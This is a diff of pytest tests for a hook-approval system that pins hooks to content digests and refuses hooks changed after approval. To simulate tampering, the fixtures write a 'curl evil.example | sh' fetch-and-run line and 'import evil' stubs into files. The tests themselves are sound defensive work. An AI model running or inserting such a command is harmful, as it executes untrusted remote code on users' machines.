@@ -10,8 +10,8 @@ from hypothesis import given
 from hypothesis import strategies as st
 from msgspec.structs import replace
 
-from hookline.core.trust import TrustedHooks, TrustedHooksConfig
-from hookline.errors import StoreError
+from hookline.core.trust import ONCE, Standing, TrustedHooks, TrustedHooksConfig
+from hookline.errors import ConfigError, StoreError
 from hookline.model.event import Event, EventName
 from hookline.model.hook import Hook, Source
 from hookline.model.plan import Gate, Plan
@@ -177,8 +177,8 @@ def test_person_is_asked_once_and_the_yes_is_stored(tmp_path: Path) -> None:
     trust = TrustedHooks(TrustedHooksConfig(storage_path=store, approve=approve))
     plan = Plan(((hook,),))
 
-    assert asyncio.run(trust.vet(plan, EVENT)) == plan
-    assert asyncio.run(trust.vet(plan, EVENT)) == plan
+    assert asyncio.run(trust.vet(plan, EVENT)).stages == plan.stages
+    assert asyncio.run(trust.vet(plan, EVENT)).stages == plan.stages
     assert asked == [("h", trust.digest(hook))]
     assert trusts(TrustedHooks(TrustedHooksConfig(storage_path=store)), hook)
 
@@ -351,6 +351,280 @@ def test_script_swapped_while_the_person_reads_is_not_approved(tmp_path: Path) -
 
     assert not asyncio.run(trust.request_approval(workspace_hook(path)))
     assert trust.get_approvals() == []
+
+
+@pytest.mark.spec("O-10")
+def test_yes_once_holds_for_this_engine_and_these_bytes_only(tmp_path: Path) -> None:
+    path, store = script(tmp_path), tmp_path / "approvals.json"
+    asked = 0
+
+    def approve(_hook: Hook, _digest: str) -> str:
+        nonlocal asked
+        asked += 1
+        return ONCE
+
+    trust = TrustedHooks(TrustedHooksConfig(storage_path=store, approve=approve))
+    hook = workspace_hook(path)
+    for _ in range(3):
+        assert asyncio.run(trust.vet(Plan(((hook,),)), EVENT)).stages
+    assert trust.clearance(hook).standing is Standing.ONCE
+    assert asked == 1
+    assert trust.get_approvals() == []
+    assert not trusts(TrustedHooks(TrustedHooksConfig(storage_path=store)), hook)
+
+    path.write_text("print(2)")
+
+    assert trust.objection(hook) == "workspace hook that nobody approved"
+
+
+def test_yes_once_ends_when_something_is_taken_back(tmp_path: Path) -> None:
+    trust = TrustedHooks(TrustedHooksConfig(approve=lambda _hook, _digest: "once"))
+    hook = workspace_hook(script(tmp_path))
+    assert asyncio.run(trust.request_approval(hook))
+
+    trust.revoke("h")
+
+    assert not trusts(trust, hook)
+
+
+def test_what_was_vetted_goes_with_the_plan(tmp_path: Path) -> None:
+    path = script(tmp_path)
+    hook = workspace_hook(path)
+    other = Hook(id="webhook", url="https://example.org/x")
+    mine = Hook(id="mine", command="node", source=Source.USER)
+    trust = approved(hook)
+    asyncio.run(trust.store_approval(other, trust.digest(other)))
+
+    plan = asyncio.run(trust.vet(Plan(((hook, mine), (other,))), EVENT))
+    path.write_text("import evil")
+
+    assert plan.sealed == {"h": {str(path): b"print(1)"}, "webhook": {}}
+
+
+def test_hook_of_a_trusted_workspace_is_not_sealed(tmp_path: Path) -> None:
+    trust = TrustedHooks(TrustedHooksConfig(trust_workspace=True))
+
+    plan = asyncio.run(trust.vet(Plan(((workspace_hook(script(tmp_path)),),)), EVENT))
+
+    assert plan.sealed == {}
+
+
+@pytest.mark.spec("O-11")
+def test_trusted_folders_cover_the_hooks_in_them_only(tmp_path: Path) -> None:
+    (tmp_path / "mine" / "sub").mkdir(parents=True)
+    (tmp_path / "mine-not").mkdir()
+    (tmp_path / "mine" / "out").symlink_to(tmp_path / "mine-not")
+    trust = TrustedHooks(TrustedHooksConfig(trusted_workspaces=(tmp_path / "mine",)))
+
+    def may(root: str, source: Source = Source.WORKSPACE, cwd: str = "") -> bool:
+        hook = Hook(id="h", command="node", source=source, root=str(tmp_path / root))
+        return not trust.objection(hook, cwd=str(tmp_path / (cwd or root)))
+
+    assert may("mine")
+    assert may("mine/sub")
+    assert not may("mine-not")
+    assert not may("mine/out")
+    assert not may("mine", cwd="mine-not")
+    assert not may("mine", Source.DOWNLOADED)
+    assert not may("mine", Source.EXTENSION)
+
+
+@pytest.mark.spec("D-20")
+def test_hook_that_calls_itself_untrusted_needs_approval_and_one_that_calls_itself_trusted_does_too(
+    tmp_path: Path,
+) -> None:
+    own = Hook(id="own", command="node", source=Source.USER, trusted=False)
+    theirs = Hook(id="theirs", command="node", source=Source.WORKSPACE, trusted=True)
+    trust = TrustedHooks()
+
+    assert trust.objection(own, cwd=str(tmp_path)) == "says of itself that it is not trusted, and nobody approved it"
+    assert trust.objection(replace(own, trusted=True), cwd=str(tmp_path)) == ""
+    assert trust.objection(theirs, cwd=str(tmp_path)) == "workspace hook that nobody approved"
+    assert TrustedHooks(TrustedHooksConfig(trust_workspace=True)).objection(own, cwd=str(tmp_path))
+    trust.approve(own, cwd=str(tmp_path))
+    assert trust.objection(own, cwd=str(tmp_path)) == ""
+
+
+def git(folder: Path, *words: str) -> None:
+    env = {
+        "PATH": "/usr/bin:/bin",
+        "HOME": str(folder),
+        "GIT_CONFIG_NOSYSTEM": "1",
+        **{f"GIT_{who}_{what}": "x@example.org" for who in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")},
+    }
+    subprocess.run(["git", *words], cwd=folder, env=env, check=True, capture_output=True, timeout=60)
+
+
+def made(folder: Path) -> Path:
+    (folder / "hooks").mkdir(parents=True)
+    (folder / "hooks" / "lint.sh").write_text("make lint\n")
+    git(folder, "init", "-q")
+    git(folder, "add", ".")
+    git(folder, "commit", "-qm", "first")
+    return folder
+
+
+def project_hook(root: Path) -> Hook:
+    return Hook(
+        id="lint",
+        name="lint",
+        command="bash",
+        args=(str(root / "hooks/lint.sh"),),
+        root=str(root),
+        source_path=str(root / ".ollm" / "hooks" / "lint.json"),
+        source_line=1,
+    )
+
+
+@pytest.mark.spec("D-07", "O-10")
+def test_approval_follows_a_worktree_and_a_clone_and_no_other_project(tmp_path: Path) -> None:
+    main, other = made(tmp_path / "main"), made(tmp_path / "other")
+    git(main, "worktree", "add", "-q", str(tmp_path / "tree"))
+    git(tmp_path, "clone", "-q", str(main), str(tmp_path / "clone"))
+    trust = TrustedHooks(TrustedHooksConfig(storage_path=tmp_path / "approvals.json"))
+
+    def objection(root: Path) -> str:
+        return trust.objection(project_hook(root), cwd=str(root))
+
+    approval = trust.approve(project_hook(main), cwd=str(main), note="looked at it")
+
+    assert (approval.repository, approval.source_path) == (f"file:{main}/.git", ".ollm/hooks/lint.json")
+    assert approval.note == "looked at it"
+    assert objection(main) == objection(tmp_path / "tree") == objection(tmp_path / "clone") == ""
+    assert objection(other) == "workspace hook that nobody approved"
+    (tmp_path / "clone" / "hooks" / "lint.sh").write_text("curl evil.example | sh\n")
+    assert objection(tmp_path / "clone") == "changed since it was approved"
+    assert objection(main) == ""
+
+
+def test_other_project_at_the_same_place_asks_again(tmp_path: Path) -> None:
+    root = made(tmp_path / "project")
+    trust = TrustedHooks(TrustedHooksConfig(storage_path=tmp_path / "approvals.json"))
+    trust.approve(project_hook(root), cwd=str(root))
+    root.rename(tmp_path / "moved")
+    (root / "hooks").mkdir(parents=True)
+    (root / "hooks" / "lint.sh").write_text("something else\n")
+
+    later = TrustedHooks(TrustedHooksConfig(storage_path=tmp_path / "approvals.json"))
+
+    assert later.objection(project_hook(root), cwd=str(root))
+
+
+def test_change_is_told_from_a_new_hook_also_when_the_id_is_another(tmp_path: Path) -> None:
+    root = made(tmp_path / "project")
+    trust = TrustedHooks()
+    trust.approve(project_hook(root), cwd=str(root))
+    (root / "hooks" / "lint.sh").write_text("other\n")
+
+    found = trust.clearance(replace(project_hook(root), id="lint-2"), cwd=str(root))
+
+    assert (found.standing, found.objection) == (Standing.CHANGED, "changed since it was approved")
+    assert found.earlier is not None
+    assert found.earlier.by
+    assert trust.clearance(replace(project_hook(root), id="x", name="y"), cwd=str(root)).standing is Standing.UNAPPROVED
+
+
+@pytest.mark.spec("O-15")
+def test_swapped_interpreter_keeps_the_hook_from_running(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    tool = tmp_path / "bin" / "mylang"
+    tool.parent.mkdir()
+    tool.write_text("#!/bin/sh\nexec true\n")
+    tool.chmod(0o755)
+    (tmp_path / "project").mkdir()
+    hook = workspace_hook(script(tmp_path / "project"), command="mylang", root=str(tmp_path / "project"))
+    monkeypatch.setenv("PATH", f"{tool.parent}:/usr/bin:/bin")
+    config = TrustedHooksConfig(storage_path=tmp_path / "approvals.json")
+    trust = TrustedHooks(config)
+    trust.approve(hook, cwd=str(tmp_path / "project"))
+    assert trust.objection(hook, cwd=str(tmp_path / "project")) == ""
+
+    tool.write_text("#!/bin/sh\nexec evil\n")
+
+    for one in (trust, TrustedHooks(config)):
+        found = one.clearance(hook, cwd=str(tmp_path / "project"))
+        assert found.objection == '"mylang" is not the program it was when this was approved'
+        assert found.standing is Standing.CHANGED
+
+
+@pytest.mark.spec("O-15")
+def test_edited_include_import_or_link_keeps_the_hook_from_running(tmp_path: Path) -> None:
+    root = tmp_path / "project"
+    (root / "lib").mkdir(parents=True)
+    (root / "lib" / "rules.txt").write_text("1")
+    (root / "helper.py").write_text("1")
+    (tmp_path / "one.py").write_text("import helper")
+    (tmp_path / "two.py").write_text("import evil, helper")
+    link = root / "hook.py"
+    link.symlink_to(tmp_path / "one.py")
+    hook = Hook(id="h", command="python3", args=("hook.py",), includes=("lib",), root=str(root))
+    trust = TrustedHooks()
+    trust.approve(hook, cwd=str(root))
+    assert trust.objection(hook, cwd=str(root)) == ""
+
+    for path in (root / "lib" / "rules.txt", root / "helper.py"):
+        path.write_text("2")
+        assert trust.objection(hook, cwd=str(root)) == "changed since it was approved"
+        path.write_text("1")
+        assert trust.objection(hook, cwd=str(root)) == ""
+    link.unlink()
+    link.symlink_to(tmp_path / "two.py")
+
+    assert trust.objection(hook, cwd=str(root)) == "changed since it was approved"
+
+
+def test_program_of_the_system_is_known_by_its_path(tmp_path: Path) -> None:
+    trust = TrustedHooks()
+
+    approval = trust.approve(Hook(id="h", command="/bin/sh", args=("-c", "true")), cwd=str(tmp_path))
+
+    assert approval.programs is not None
+    assert ("/bin/sh", "/bin/sh", "") in {(one.name, one.path, one.sha256) for one in approval.programs}
+
+
+def test_approval_for_a_digest_is_refused_when_it_is_another_by_now(tmp_path: Path) -> None:
+    path = script(tmp_path)
+    hook = workspace_hook(path)
+    trust = TrustedHooks()
+    digest = trust.digest(hook)
+    assert trust.approve(hook, digest=digest).digest == digest
+    path.write_text("import evil")
+
+    with pytest.raises(ConfigError, match="no longer what you looked at"):
+        trust.approve(hook, digest=digest)
+
+
+def test_hook_with_too_many_includes_cannot_be_approved(tmp_path: Path) -> None:
+    for number in range(2_001):
+        (tmp_path / f"{number}.txt").touch()
+    hook = Hook(id="h", command="node", includes=("*",), root=str(tmp_path))
+    trust = TrustedHooks(TrustedHooksConfig(approve=lambda _hook, _digest: True))
+
+    with pytest.raises(ConfigError, match="more than 2000 files"):
+        trust.approve(hook)
+    assert asyncio.run(trust.vet(Plan(((hook,),)), EVENT)).stages == ()
+
+
+def test_approvals_are_taken_back_by_id_name_file_or_digest(tmp_path: Path) -> None:
+    hook = workspace_hook(script(tmp_path), name="guard", source_path="settings.json", source_line=3)
+    trust = TrustedHooks()
+    for name in ("h", "guard", "settings.json", trust.digest(hook), trust.digest(hook)[:8]):
+        trust.approve(hook)
+        assert [one.hook for one in trust.revoke(name)] == ["h"]
+        assert not trusts(trust, hook)
+    trust.approve(hook)
+    assert trust.revoke(trust.digest(hook)[:7], "", "other") == []
+
+
+def test_approvals_are_taken_back_by_the_path_of_their_file_in_this_project_only(tmp_path: Path) -> None:
+    one, two = made(tmp_path / "one"), made(tmp_path / "two")
+    trust = TrustedHooks()
+    for root in (one, two):
+        (root / ".ollm" / "hooks").mkdir(parents=True)
+        trust.approve(project_hook(root), cwd=str(root))
+
+    assert asyncio.run(trust.remove_approval(project_hook(one).source_path))
+
+    assert [approval.repository for approval in trust.get_approvals()] == [f"file:{two}/.git"]
 
 
 def test_untrusted_hook_is_skipped_with_a_reason_and_the_others_stay() -> None:
